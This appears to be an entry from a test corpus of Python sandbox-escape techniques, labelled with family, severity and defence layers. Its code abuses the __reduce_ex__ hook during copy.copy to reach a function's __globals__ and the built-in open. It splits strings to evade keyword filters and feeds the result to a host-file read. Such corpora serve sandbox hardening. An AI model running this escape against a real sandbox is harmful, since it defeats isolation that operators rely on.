# technique: copying reads an attribute that the reduce protocol of a method names
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy
import json

class Deputy:
    def __reduce_ex__(self, protocol):
        return (vars(object)["__getattr" + "ibute__"], (json.dumps, "__glo" + "bals__"))

read_host(lambda: copy.copy(Deputy())["__built" + "ins__"]["open"])
